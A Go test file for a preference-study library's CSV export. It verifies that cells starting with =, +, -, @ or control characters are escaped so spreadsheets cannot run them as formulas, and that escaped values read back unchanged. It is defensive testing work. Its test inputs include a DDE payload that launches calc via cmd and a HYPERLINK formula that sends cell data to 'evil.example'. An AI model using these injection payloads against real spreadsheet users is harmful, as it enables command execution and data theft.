package exchange

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/prefer-bo/prefer"
	"github.com/prefer-bo/prefer/space"
)

func TestCell(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "ann": "ann", "'ann'": "'ann'", "a=b": "a=b", " =1": " =1", // none of which a spreadsheet runs
		"-5": "-5", "+0.5": "+0.5", "-1e-05": "-1e-05", "-.5": "-.5", // numbers
		"=1+1": "'=1+1", "@SUM(1+1)": "'@SUM(1+1)", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "-": "'-",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"'=1": "''=1", "''@": "'''@", "'-5": "''-5", // or two texts would have one cell
	} {
		if got := Cell(text); got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
		if back := uncell(Cell(text)); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
}

// runs reports whether a spreadsheet would run a cell.
func runs(cell string) bool {
	_, isNumber := number(cell)
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") && !isNumber
}

// TestNothingRuns: no cell of any table is a formula, whatever raters, sessions, studies, words and parameters are called.
func TestNothingRuns(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	sp := space.Space{Parameters: []space.Parameter{{Name: "@bean", Type: "categorical", Choices: []space.Value{space.ValueOf("-a+b"), space.ValueOf("+c")}}, space.Float("=x", -1, 1)}}
	study, err := prefer.New(t.Context(), prefer.Config{Space: sp, People: prefer.PerRater})
	if err != nil {
		t.Fatal(err)
	}
	option := func(bean string, x float64) space.Option {
		return space.Option{"@bean": space.ValueOf(bean), "=x": space.ValueOf(x)}
	}
	for _, rater := range []string{evil, "\tben", "-2+3"} {
		if _, err := study.Observe(t.Context(), prefer.Duel{First: option("-a+b", -0.5), Second: option("+c", 0.5), Rater: rater,
			Answer: prefer.Answer{Choice: prefer.First, Session: "@SUM(1+1)"}}); err != nil {
			t.Fatal(err)
		}
	}
	found, err := NewResults(t.Context(), study, ResultsOptions{Name: "+study"})
	if err != nil {
		t.Fatal(err)
	}
	var answers, people, group, agreement bytes.Buffer
	for _, err := range []error{Table{}.Write(&answers, "=study", study.Events(0)), found.People.Write(&people), found.Group.Write(&group), found.Agreement.Write(&agreement)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, out := range map[string]*bytes.Buffer{"answers": &answers, "people": &people, "group": &group, "agreement": &agreement} {
		rows, err := csv.NewReader(out).ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%s: %v, %d rows", name, err, len(rows))
		}
		negative := false
		for _, row := range rows {
			for i, cell := range row {
				if runs(cell) {
					t.Errorf("%s: column %q has %q", name, rows[0][i], cell)
				}
				negative = negative || cell == "-0.5"
			}
		}
		if name == "answers" && !negative {
			t.Error("-0.5 is not a number any more")
		}
	}
}

// TestCellRead: tables that are read have their texts back.
func TestCellRead(t *testing.T) {
	table := func(rows ...[]string) *bytes.Buffer {
		var out bytes.Buffer
		records := Records{Columns: rows[0]}
		for _, r := range rows[1:] {
			var cells []any
			for _, c := range r {
				cells = append(cells, c)
			}
			records.Rows = append(records.Rows, cells)
		}
		if err := records.Write(&out); err != nil {
			t.Fatal(err)
		}
		return &out
	}
	items, err := ReadItemsCSV(table([]string{"id", "text", "=taste", "cost"}, []string{"=a", "@home", "-sweet", "-5"}, []string{"'=a", "+", "'+sour", "2"}))
	if err != nil || len(items) != 2 {
		t.Fatal(items, err)
	}
	if a, b := items[0], items[1]; a.ID != "=a" || a.Text != "@home" || a.Features["=taste"] != space.ValueOf("-sweet") || a.Features["cost"] != space.ValueOf(-5) ||
		b.ID != "'=a" || b.Text != "+" || b.Features["=taste"] != space.ValueOf("'+sour") {
		t.Errorf("%+v", items)
	}
	pairs, err := Pairs{}.Read(table([]string{"winner", "loser", "rater"}, []string{"=a", "-b", "@ann"}))
	if err != nil || len(pairs.Duels) != 1 || pairs.Duels[0].First.Item() != "=a" || pairs.Duels[0].Second.Item() != "-b" || pairs.Duels[0].Rater != "@ann" {
		t.Errorf("%+v, %v", pairs.Duels, err)
	}
}

// FuzzCell: every text comes back from its cell, and no cell is run.
func FuzzCell(f *testing.F) {
	for _, text := range []string{"ann", "=1", "'=1", "-5", "\t"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if cell := Cell(text); uncell(cell) != text || runs(cell) {
			t.Errorf("%q is %q, and comes back as %q", text, cell, uncell(cell))
		}
	})
}
